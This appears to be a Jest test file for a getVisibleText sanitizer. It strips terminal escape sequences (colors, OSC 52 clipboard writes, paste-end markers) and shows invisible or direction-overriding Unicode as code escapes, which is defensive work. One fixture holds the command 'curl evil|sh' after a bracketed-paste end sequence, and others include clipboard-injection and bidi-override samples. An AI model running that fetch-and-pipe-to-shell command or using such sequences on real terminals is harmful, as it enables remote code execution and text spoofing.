// cspell:ignore שלום مرحبا क्षि خواهم
import {getVisibleText} from './visibleText';

const e = String.fromCharCode(27);
const bell = String.fromCharCode(7);

test.each([
  ['colors', `${e}[1;31mA${e}[0m`, 'A'],
  ['the end of a paste', `${e}[201~\ncurl evil|sh`, '\ncurl evil|sh'],
  ['a cursor', `a${e}[2J${e}[?25lb`, 'ab'],
  ['a CSI of one character', '\u009b31mA', 'A'],
  ['the clipboard of OSC 52', `a${e}]52;c;QQ==${bell}b`, 'ab'],
  ['a link of OSC 8', `${e}]8;;https://example.com${e}\\link${e}]8;;${e}\\`, 'link'],
  ['an OSC of one character', 'a\u009d0;title\u009cb', 'ab'],
  ['a device control string', `a${e}Pq#0${e}\\b`, 'ab'],
  ['a string of an application', `a${e}_x${e}\\b`, 'ab'],
  ['a character set', `${e}(0a${e}(B`, 'a'],
  ['a reset', `a${e}cb`, 'ab'],
  ['an OSC without an end', `a${e}]52;c\nb`, 'a52;c\nb'],
  ['a CSI without an end', `a${e}[31\nb`, 'a31\nb'],
  ['an escape at the end', `a${e}`, 'a'],
  ['a sequence inside of another', `${e}${e}[31m[2J`, '[2J'],
  ['NUL, backspace, carriage return, DEL', 'a\0b\bc\r\nd\u007f', 'abc\nd'],
])('removes %s', (_, text, visible) => {
  expect(getVisibleText(text)).toBe(visible);
});

test.each([
  ['an override of direction', 'a\u202eb', 'a\\u202eb'],
  ['isolates and marks of direction', '\u2066\u200f\u061c', '\\u2066\\u200f\\u061c'],
  ['spaces without width', 'a\u200bb\ufeff\u2060', 'a\\u200bb\\ufeff\\u2060'],
  ['a soft hyphen', 'a\u00adb', 'a\\u00adb'],
  ['letters that look like nothing', 'a\u3164', 'a\\u3164'],
  ['tags', 'a\u{e0041}', 'a\\u{e0041}'],
])('writes %s as in code', (_, text, visible) => {
  expect(getVisibleText(text)).toBe(visible);
});

test.each([
  ['text', "<b>&amp;</b>\n\t'é' 你好 שלום مرحبا"],
  ['combining marks', 'e\u0301 ก็ क्षि'],
  ['emoji with joiners, variants and skin', '👩\u200d👩\u200d👧 ❤\ufe0f 👍🏽 🏳\ufe0f\u200d🌈'],
  ['flags', '🇨🇭 \u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}'],
  ['joiners of Persian', 'می\u200cخواهم'],
])('keeps %s', (_, text) => {
  expect(getVisibleText(text)).toBe(text);
});

test('can keep colors', () => {
  expect(getVisibleText(`${e}[1;31mA${e}[2J${e}[0m\u202e`, true)).toBe(`${e}[1;31mA${e}[0m\\u202e`);
});

test('takes the processor a time that grows with the length, however many sequences have no end', () => {
  for (const piece of [
    `${e}]`,
    `${e}P`,
    '\u009d',
    `${e}[`,
    '\u009b',
    `${e}(`,
    e,
    `${e}]a\u009d`,
    '\u{1f3f4}\u{e0067}',
  ]) {
    const start = process.cpuUsage();
    getVisibleText(piece.repeat(200_000));

    expect(process.cpuUsage(start).user).toBeLessThan(5_000_000);
  }
});
